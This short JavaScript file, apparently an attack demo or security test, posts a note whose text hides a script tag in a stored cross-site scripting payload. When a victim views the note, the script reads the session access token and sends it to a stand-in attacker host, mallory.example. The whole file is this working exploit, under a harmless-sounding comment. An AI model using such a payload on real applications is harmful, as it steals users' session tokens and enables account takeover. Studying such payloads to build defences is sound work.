// Leaves a note for Ana. Anyone may do that.
import { send } from '../http.js';

//#region note
const loot = 'https://mallory.example:8443/loot';
const script = `
  fetch('/session/token')
    .then((answer) => answer.json())
    .then(({ access_token: body }) =>
      fetch('${loot}', { method: 'POST', body }));`;

const body = new URLSearchParams({
  author: 'Miller & Sons',
  note: `The flour comes on Monday.<script>${script}</script>`,
});
const address = 'https://app.tally.example:8443/notes';
const { status } = await send(address, { method: 'POST', body });
//#endregion
console.log(`POST /notes: ${status}`);
